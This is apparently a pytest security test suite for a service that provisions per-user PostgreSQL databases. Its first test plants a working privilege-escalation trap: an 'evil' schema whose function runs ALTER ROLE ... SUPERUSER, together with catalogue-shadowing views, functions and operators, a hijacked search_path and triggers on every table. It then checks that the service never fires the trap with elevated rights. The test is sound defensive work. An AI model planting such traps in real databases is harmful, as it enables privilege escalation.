"""The privilege boundary inside user databases, played as a hostile engineer plays it: with nothing but their
own database login and the objects they may create there.

The trap: a search_path that puts the user's schema before pg_catalog (set on the database and on the role),
views named like the catalogues, functions named like the built-ins edabot's SQL calls, `=` operators for the
types catalogue queries compare, and statement triggers on every table the user owns. Each planted object, when
run, tries to make the user SUPERUSER, CREATEROLE and CREATEDB, and notes who ran it. After a scan, two ingests and
a new table's publish, the user's role must have gained nothing.
"""

from __future__ import annotations

import dataclasses
import textwrap
from collections.abc import Iterator
from pathlib import Path

import psycopg
import pytest
from psycopg import sql

from core.authz import Actor
from core.context import CoreContext
from core.db.provisioning import database_names, grafana_role, harden_server
from core.db.urls import with_database, with_login
from core.errors import NotAllowed, NotFound
from core.grafana.client import GrafanaClient
from core.grafana.steps import GrafanaProvisioner
from core.ingest.load.for_user import ingest_for_user
from core.logins import OWNER_PASSWORD, READER_PASSWORD, require_password
from core.pipeline import scanner
from core.pipeline.publish import publish
from core.registration import delete, purge, register
from tests.conftest import admin_login, owner_login
from tests.fakes.grafana import GrafanaFake
from tests.unit.ingest.test_inline_formats import DC_TIMING

pytestmark = pytest.mark.db

# Every planted object calls this. It runs with the rights of whoever runs the object.
_RECORDER = """
CREATE TABLE evil.ran (who name, superuser boolean, at timestamptz DEFAULT pg_catalog.now());
GRANT INSERT ON evil.ran TO PUBLIC;
GRANT USAGE ON SCHEMA evil TO PUBLIC;
CREATE FUNCTION evil.escalate() RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
  BEGIN
    INSERT INTO evil.ran (who, superuser)
    SELECT current_user, rolsuper FROM pg_catalog.pg_roles WHERE rolname OPERATOR(pg_catalog.=) current_user;
  EXCEPTION WHEN others THEN NULL;  -- a read-only session cannot note it; the attempt below still runs
  END;
  BEGIN
    EXECUTE pg_catalog.format('ALTER ROLE %I SUPERUSER CREATEROLE CREATEDB', '{victim}');
  EXCEPTION WHEN others THEN NULL;
  END;
  RETURN true;
END $$;
"""

_CATALOG_VIEWS = ("pg_class", "pg_namespace", "pg_roles", "pg_database", "pg_attribute", "pg_type", "pg_trigger")
_SHADOW_FUNCTIONS = {
    "to_regclass(text)": "regclass",
    "quote_ident(text)": "text",
    "format_type(oid, integer)": "text",
    "pg_get_serial_sequence(text, text)": "text",
    "shobj_description(oid, name)": "text",
    "obj_description(oid, name)": "text",
    "col_description(oid, integer)": "text",
}
_OPERATOR_TYPES = ("name", "oid", "text", '"char"', "regclass")


def _plant(conn: psycopg.Connection, username: str, database: str) -> None:
    conn.execute("CREATE SCHEMA evil")
    conn.execute(_RECORDER.replace("{victim}", username))
    for view in _CATALOG_VIEWS:
        # Every column a view may hold (pg_attribute's attmissingval is of a pseudo-type).
        columns = conn.execute(
            "SELECT string_agg(quote_ident(attname), ', ' ORDER BY attnum) FROM pg_catalog.pg_attribute "
            "WHERE attrelid = %s::regclass AND attnum > 0 AND atttypid <> 'anyarray'::regtype",
            (f"pg_catalog.{view}",),
        ).fetchone()[0]  # type: ignore[index]
        conn.execute(f"CREATE VIEW evil.{view} AS SELECT {columns} FROM pg_catalog.{view} WHERE evil.escalate()")
    for signature, returns in _SHADOW_FUNCTIONS.items():
        name, args = signature.split("(")
        arg_types = [a.strip() for a in args.rstrip(")").split(",")]
        call = ", ".join(f"${i + 1}" for i in range(len(arg_types)))
        conn.execute(
            f"CREATE FUNCTION evil.{signature} RETURNS {returns} LANGUAGE sql "
            f"AS $$ SELECT CASE WHEN evil.escalate() THEN pg_catalog.{name}({call}) END $$"
        )
    for i, typ in enumerate(_OPERATOR_TYPES):
        conn.execute(
            f"CREATE FUNCTION evil.eq_{i}({typ}, {typ}) RETURNS boolean LANGUAGE sql "
            f"AS $$ SELECT evil.escalate() AND $1 OPERATOR(pg_catalog.=) $2 $$"
        )
        conn.execute(f"CREATE OPERATOR evil.= (LEFTARG = {typ}, RIGHTARG = {typ}, FUNCTION = evil.eq_{i})")
    conn.execute(
        sql.SQL("ALTER DATABASE {} SET search_path = evil, pg_catalog, public").format(sql.Identifier(database))
    )


def _trigger_every_table(conn: psycopg.Connection) -> int:
    """A statement trigger calling the escalation on every table the user owns (edabot's `eda` ones too)."""
    conn.execute(
        "CREATE OR REPLACE FUNCTION evil.trigger_escalate() RETURNS trigger LANGUAGE plpgsql "
        "AS $$ BEGIN PERFORM evil.escalate(); RETURN NULL; END $$"
    )
    tables = conn.execute(
        "SELECT n.nspname, c.relname FROM pg_catalog.pg_class c JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace "
        "WHERE c.relkind IN ('r', 'p') AND c.relowner = (SELECT oid FROM pg_catalog.pg_roles WHERE rolname = current_user) "
        "AND n.nspname <> 'evil'"
    ).fetchall()
    for schema, table in tables:
        conn.execute(
            sql.SQL(
                "CREATE TRIGGER zz_evil BEFORE INSERT OR UPDATE OR DELETE OR TRUNCATE ON {}.{} "
                "FOR EACH STATEMENT EXECUTE FUNCTION evil.trigger_escalate()"
            ).format(sql.Identifier(schema), sql.Identifier(table))
        )
    return len(tables)


def _attributes(ctx: CoreContext, role: str) -> tuple[bool, bool, bool]:
    with admin_login(ctx, "postgres") as conn:
        row = conn.execute(
            "SELECT rolsuper, rolcreaterole, rolcreatedb FROM pg_roles WHERE rolname = %s", (role,)
        ).fetchone()
    assert row is not None
    return bool(row[0]), bool(row[1]), bool(row[2])


def _ran(ctx: CoreContext, username: str) -> list[tuple[str, bool]]:
    found: list[tuple[str, bool]] = []
    for database in database_names(username).values():
        with admin_login(ctx, database) as conn:
            found += [(str(r[0]), bool(r[1])) for r in conn.execute("SELECT who, superuser FROM evil.ran").fetchall()]
    return found


@pytest.fixture
def grafana_ctx(core_ctx: CoreContext) -> Iterator[CoreContext]:
    with GrafanaFake(render_delay_ms=0) as grafana:
        client = GrafanaClient(grafana.base_url, grafana.token, max_attempts=2, backoff_seconds=0.05)
        yield dataclasses.replace(core_ctx, grafana=GrafanaProvisioner(client, core_ctx.server), grafana_client=client)


def test_planted_search_path_shadows_and_triggers_never_run_with_privileges(
    grafana_ctx: CoreContext, unique_username, tmp_path: Path
) -> None:
    ctx = grafana_ctx
    mallory = unique_username("mallory")
    register(ctx, username=mallory, slack_user_id=None, actor=Actor.cli())
    report = tmp_path / "timing.rpt"
    report.write_text(textwrap.dedent(DC_TIMING).lstrip("\n"))

    # A first ingest so that edabot's own tables exist to put triggers on.
    ingest_for_user(ctx, mallory, report, kind="timing")
    for kind, database in database_names(mallory).items():
        with owner_login(ctx, mallory, kind) as conn:
            _plant(conn, mallory, database)
            conn.execute(f'CREATE TABLE public."new_{kind}" (startpoint text, endpoint text, slack double precision)')
            conn.execute(f"INSERT INTO public.\"new_{kind}\" VALUES ('a', 'b', -0.5)")
            assert _trigger_every_table(conn) >= (5 if kind == "timing" else 1)
        with owner_login(ctx, mallory, kind) as conn:
            conn.execute(
                sql.SQL("ALTER ROLE {} SET search_path = evil, pg_catalog, public").format(sql.Identifier(mallory))
            )
    # The trap is armed: an unpinned session of the user's own resolves the catalogue to the planted view.
    with owner_login(ctx, mallory, "qor") as conn:
        conn.execute("SELECT count(*) FROM pg_class").fetchone()
    assert (mallory, False) in _ran(ctx, mallory)

    found = scanner.scan(ctx, only_username=mallory)
    assert found.errors == []
    assert {(kind, f"new_{kind}") for kind in ("timing", "qor", "drc")} <= {(k, t) for _, k, t in found.new}
    ingest_for_user(ctx, mallory, report, kind="timing")
    ingest_for_user(ctx, mallory, report, kind="timing")
    assert ctx.grafana_client is not None
    published = publish(
        ctx,
        ctx.grafana_client,
        username=mallory,
        database_kind="timing",
        database=database_names(mallory)["timing"],
        table="new_timing",
        reader_password=require_password(ctx, READER_PASSWORD, mallory),
    )
    assert published.uid

    assert _attributes(ctx, mallory) == (False, False, False)
    assert _attributes(ctx, grafana_role(mallory)) == (False, False, False)
    ran = _ran(ctx, mallory)
    # The ingest triggers did run, as the user, and nothing planted ever ran as a superuser.
    assert ran.count((mallory, False)) >= 3
    assert all(not superuser for _, superuser in ran)
    assert {who for who, _ in ran} <= {mallory, grafana_role(mallory)}


def test_a_user_opens_no_database_but_their_own(core_ctx: CoreContext, unique_username) -> None:
    alice, bob = unique_username("alice"), unique_username("bob")
    for name in (alice, bob):
        register(core_ctx, username=name, slack_user_id=None, actor=Actor.cli())
    master = core_ctx.db.engine.url.database
    assert master is not None
    assert harden_server(core_ctx.server, master_database=master) == []
    password = require_password(core_ctx, OWNER_PASSWORD, alice)
    admin_url = core_ctx.server.admin_url.reveal()
    for database in (master, "postgres", "template1", f"{bob}_timing", f"{bob}_qor", f"{bob}_drc"):
        with pytest.raises(psycopg.OperationalError, match=r"permission denied|not currently accepting"):
            psycopg.connect(with_login(admin_url, database, alice, password.reveal()), connect_timeout=5).close()
    # Her own databases still open, and the admin still reaches the master database.
    with owner_login(core_ctx, alice, "drc") as conn:
        assert conn.execute("SELECT current_user").fetchone() == (alice,)
    psycopg.connect(with_database(admin_url, master), connect_timeout=5).close()


def test_role_passwords_reach_the_server_only_as_scram_verifiers(core_ctx: CoreContext, unique_username) -> None:
    with admin_login(core_ctx, "postgres") as conn:
        log_file = Path(str(conn.execute("SHOW data_directory").fetchone()[0])) / "server.log"  # type: ignore[index]
        logging_here = log_file.exists()
        if logging_here:
            conn.execute("ALTER SYSTEM SET log_statement = 'all'")
            conn.execute("SELECT pg_reload_conf()")
    try:
        carol = unique_username("carol")
        register(core_ctx, username=carol, slack_user_id=None, actor=Actor.cli())
    finally:
        if logging_here:
            with admin_login(core_ctx, "postgres") as conn:
                conn.execute("ALTER SYSTEM RESET log_statement")
                conn.execute("SELECT pg_reload_conf()")
    with admin_login(core_ctx, "postgres") as conn:
        stored = dict(
            conn.execute(
                "SELECT rolname, rolpassword FROM pg_authid WHERE rolname IN (%s, %s)", (carol, grafana_role(carol))
            ).fetchall()
        )
    assert set(stored) == {carol, grafana_role(carol)}
    assert all(v.startswith("SCRAM-SHA-256$4096:") for v in stored.values())
    owner_pw = require_password(core_ctx, OWNER_PASSWORD, carol).reveal()
    reader_pw = require_password(core_ctx, READER_PASSWORD, carol).reveal()
    if not logging_here:
        pytest.skip("the server's log file is not in its data directory (not the embedded server); verifiers checked")
    log = log_file.read_text(errors="replace")
    assert f'ALTER ROLE "{carol}"' in log or f"ALTER ROLE {carol}" in log  # the statements were logged ...
    assert owner_pw not in log and reader_pw not in log  # ... without the plaintext


def test_a_kept_name_stays_reserved_until_an_admin_restores_or_purges_it(
    core_ctx: CoreContext, unique_username
) -> None:
    alice = unique_username("alice")
    register(core_ctx, username=alice, slack_user_id="U0ALICE01", actor=Actor.cli())
    with owner_login(core_ctx, alice, "timing") as conn:
        conn.execute("CREATE TABLE secrets_of_alice (x text)")
        conn.execute("INSERT INTO secrets_of_alice VALUES ('tape-out plan')")
    delete(core_ctx, username=alice, drop_data=False, actor=Actor.cli())

    # Anyone else asking for the name is refused, with the reason, and gets nothing.
    with pytest.raises(NotAllowed, match="data was kept"):
        register(
            core_ctx,
            username=alice,
            slack_user_id="U0MALLORY",
            actor=Actor(label="U0MALLORY", is_admin=False, username=None),
        )
    # Even with the bookkeeping row gone (a deletion made by an earlier version), the server's marker decides.
    with core_ctx.db.session() as session:
        from sqlalchemy import text

        session.execute(text("DELETE FROM retained_names WHERE username = :u"), {"u": alice})
    with pytest.raises(NotAllowed):
        register(
            core_ctx,
            username=alice,
            slack_user_id="U0MALLORY",
            actor=Actor(label="U0MALLORY", is_admin=False, username=None),
        )
    with admin_login(core_ctx, "postgres") as conn:
        assert conn.execute("SELECT rolcanlogin FROM pg_roles WHERE rolname = %s", (alice,)).fetchone() == (False,)

    # An admin gives the name and its data back to a named Slack user.
    restored = register(core_ctx, username=alice, slack_user_id="U0ALICE02", actor=Actor.cli(), restore=True)
    assert restored.username == alice
    with owner_login(core_ctx, alice, "timing") as conn:
        assert conn.execute("SELECT x FROM secrets_of_alice").fetchone() == ("tape-out plan",)

    # Deleted again, keeping data; then purged: the data is gone and the name is free.
    delete(core_ctx, username=alice, drop_data=False, actor=Actor.cli())
    purge(core_ctx, username=alice, actor=Actor.cli())
    with admin_login(core_ctx, "postgres") as conn:
        assert conn.execute("SELECT count(*) FROM pg_database WHERE datname LIKE %s", (f"{alice}\\_%",)).fetchone() == (
            0,
        )
    with pytest.raises(NotFound):
        purge(core_ctx, username=alice, actor=Actor.cli())
    register(
        core_ctx,
        username=alice,
        slack_user_id="U0NEWUSER",
        actor=Actor(label="U0NEWUSER", is_admin=False, username=None),
    )
    with owner_login(core_ctx, alice, "timing") as conn:
        assert conn.execute("SELECT to_regclass('public.secrets_of_alice')").fetchone() == (None,)
